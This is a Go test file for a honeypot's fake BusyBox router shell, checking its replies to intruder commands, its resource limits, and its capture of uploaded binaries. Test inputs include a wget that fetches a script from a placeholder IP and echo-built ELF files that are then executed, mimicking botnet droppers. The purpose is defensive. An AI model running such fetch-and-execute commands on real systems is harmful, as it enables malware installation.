package shell

import (
	"bytes"
	"strings"
	"testing"

	"github.com/honeyscope/honeyscope/internal/session"
)

func TestAnswers(t *testing.T) {
	cases := []struct {
		lines []string
		want  string // output of the last line
	}{
		{[]string{`echo 'a  b' "c $HOME" \$x \"q\"`}, "a  b c /root $x \"q\"\n"},
		{[]string{`echo -ne '\x41\0102\103\t\\'`}, "ABC\t\\"},
		{[]string{`echo -e 'a\cb'`}, "a"},
		{[]string{`printf '%s-%d-%x-%5s|%-3s|\x41\101\n' ab 12 255 r l`}, "ab-12-ff-    r|l  |AA\n"},
		{[]string{`printf '%s\n' a b c`}, "a\nb\nc\n"},
		{[]string{`echo $(id) ` + "`uname`"}, "$(id) `uname`\n"},
		{[]string{"X=5; echo $X ${X}y"}, "5 5y\n"},
		{[]string{"false && echo no || echo yes"}, "yes\n"},
		{[]string{"true || echo no; echo $?"}, "0\n"},
		{[]string{"/bin/busybox FOOBAR"}, "FOOBAR: applet not found\n"},
		{[]string{"busybox XYZZY; echo $?"}, "XYZZY: applet not found\n127\n"},
		{[]string{"foo"}, "sh: foo: not found\n"},
		{[]string{"cd /nonexistent"}, "sh: cd: can't cd to /nonexistent: No such file or directory\n"},
		{[]string{"cd /tmp; mkdir -p a/b; cd a/b; pwd"}, "/tmp/a/b\n"},
		{[]string{"echo hi > /tmp/f; echo ho >> /tmp/f; cat /tmp/f"}, "hi\nho\n"},
		{[]string{"echo hi > /tmp/f; cp /tmp/f /tmp/g; mv /tmp/g /tmp/h; cat /tmp/h; ls /tmp"}, "hi\nf    h    log\n"},
		{[]string{"echo x > /tmp/f; rm -rf /tmp/f; cat /tmp/f"}, "cat: can't open '/tmp/f': No such file or directory\n"},
		{[]string{"echo x > /bin/x"}, "sh: can't create /bin/x: Read-only file system\n"},
		{[]string{"echo x > /tmp/f 2>/dev/null; chmod +x /tmp/f; ls -l /tmp/f | cut -d ' ' -f 1"}, "-rwxr-xr-x\n"},
		{[]string{"uname -a"}, "Linux router 3.10.14 #1 SMP PREEMPT Fri Aug 24 16:19:25 CST 2018 armv7l GNU/Linux\n"},
		{[]string{"uname -s -r -m"}, "Linux 3.10.14 armv7l\n"},
		{[]string{"id; whoami; nproc"}, "uid=0(root) gid=0(root) groups=0(root)\nroot\n2\n"},
		{[]string{"cat /proc/cpuinfo | grep -c processor"}, "2\n"},
		{[]string{"echo a; exit; echo b"}, "a\n"},
		{[]string{"cd /tmp; wget -q http://198.51.100.9/x.sh; ls"}, "log   x.sh\n"},
		{[]string{"cd /tmp; echo test | base64 | base64 -d"}, "test\n"},
		{[]string{"cd /tmp; ./nothere"}, "sh: ./nothere: not found\n"},
		{[]string{"cd /tmp; echo x > s; ./s"}, "sh: ./s: Permission denied\n"},
		{[]string{"cd /tmp; echo -ne '" + echoChunks(testELF(1, 1, 40, 0x05000400, 60, 0))[0] + "' > e; chmod 777 e; ./e"}, "Segmentation fault\n"},
		{[]string{"cd /tmp; echo -ne '" + echoChunks(testELF(1, 2, 8, 0, 60, 0))[0] + "' > e; chmod 777 e; ./e"}, "./e: line 1: syntax error: unexpected word (expecting \")\")\n"},
		{[]string{"cd /tmp; cp /bin/busybox b; ./b FOOBAR"}, "FOOBAR: applet not found\n"},
		{[]string{"ls /dev/shm; ls -d /proc"}, "/proc\n"},
		{[]string{"history -c; echo a", "echo b", "history"}, "    1  echo b\n    2  history\n"},
	}
	for _, tc := range cases {
		sh := New(Config{Arch: "arm7", Hostname: "router"}, nil)
		var out []byte
		for _, l := range tc.lines {
			out, _ = sh.Run(l)
		}
		if string(out) != tc.want {
			t.Errorf("%q:\n got %q\nwant %q", tc.lines, out, tc.want)
		}
	}
}

func TestLimits(t *testing.T) {
	// Command limit: the line stops and the session ends.
	lim := session.DefaultLimits()
	lim.Commands = 3
	rec := newRecorder(t, lim)
	sh := New(Config{}, rec)
	out, exit := sh.Run("echo 1; echo 2; echo 3; echo 4; echo 5")
	if !exit || sh.ExitReason() != ReasonCommands || string(out) != "1\n2\n3\n" {
		t.Fatalf("exit %v reason %q out %q", exit, sh.ExitReason(), out)
	}
	if out, exit := sh.Run("echo again"); !exit || len(out) != 0 {
		t.Fatalf("after the limit: %q %v", out, exit)
	}

	// Filesystem limit: a write that does not fit fails and stores nothing.
	lim = session.DefaultLimits()
	rec = newRecorder(t, lim)
	sh = New(Config{FSBytes: 1000}, rec)
	sh.Run("echo -n " + strings.Repeat("a", 600) + " > /tmp/a")
	out, _ = sh.Run("echo -n " + strings.Repeat("b", 600) + " >> /tmp/a")
	if !bytes.Contains(out, []byte("No space left on device")) {
		t.Fatalf("second write: %q", out)
	}
	if got, _ := sh.Run("cat /tmp/a"); string(got) != strings.Repeat("a", 600) {
		t.Fatalf("file holds %d bytes", len(got))
	}
	out, _ = sh.Run("dd if=/dev/zero of=/tmp/z bs=1M count=100")
	if !bytes.Contains(out, []byte("No space left on device")) || sh.fs.used > 1000 {
		t.Fatalf("dd: %q, used %d", out, sh.fs.used)
	}
	files := rec.Snapshot().Files
	if len(files) != 1 || files[0].Size != 600 {
		t.Fatalf("files %+v", files)
	}

	// Output bounds.
	sh = New(Config{}, nil)
	if out, _ := sh.Run("cat /dev/zero /dev/zero /dev/zero"); len(out) != maxCmdOutput {
		t.Fatalf("cat /dev/zero printed %d", len(out))
	}
	line := strings.Repeat("cat /bin/busybox;", 20)
	if out, _ := sh.Run(line); len(out) != maxLineOutput {
		t.Fatalf("line printed %d", len(out))
	}
	// Line length: the recorder's Limits.Line.
	lim = session.DefaultLimits()
	lim.Line = 100
	rec = newRecorder(t, lim)
	sh = New(Config{}, rec)
	sh.Run("echo " + strings.Repeat("x", 1000))
	if c := rec.Snapshot().Commands; len(c) != 1 || len(c[0].Input) > 100 {
		t.Fatalf("commands %+v", c)
	}
	// Nesting and depth.
	sh = New(Config{}, nil)
	sh.Run(strings.Repeat("(", 1000) + "echo deep" + strings.Repeat(")", 1000))
	sh.Run("mkdir -p /tmp/" + strings.Repeat("d/", 100))
	if depth := strings.Count(sh.Cwd(), "/"); depth > maxDepth {
		t.Fatal("depth")
	}
	if out, _ := sh.Run("cd /tmp/" + strings.Repeat("d/", 40)); !bytes.Contains(out, []byte("can't cd")) {
		t.Fatalf("deep cd: %q", out)
	}
}

// TestChunkedUpload checks an upload in many appends is recorded as one
// file holding the whole content, whether or not the front end calls
// Close, and that cleanup does not erase the sample.
func TestChunkedUpload(t *testing.T) {
	bin := testELF(1, 2, 8, 0x1007, 40000, 3)
	for _, closeIt := range []bool{true, false} {
		rec := newRecorder(t, session.Limits{Commands: 5000, Files: 10, URLs: 10, Line: 16 << 10})
		sh := New(Config{Arch: "mips"}, rec)
		sh.Run("cd /var")
		for i, c := range echoChunks(bin) {
			op := ">>"
			if i == 0 {
				op = ">"
			}
			sh.Run("echo -ne '" + c + "' " + op + " .d")
		}
		if closeIt {
			sh.Close()
		} else {
			sh.Run("chmod +x .d; ./.d; > .d; rm .d")
		}
		files := rec.Snapshot().Files
		if len(files) != 1 || files[0].Path != "/var/.d" || files[0].Size != int64(len(bin)) ||
			files[0].Type != "elf32-mips-be" || !bytes.Equal(files[0].Content, bin) || files[0].Via != "echo" {
			t.Fatalf("close %v: files %+v", closeIt, files)
		}
	}
}
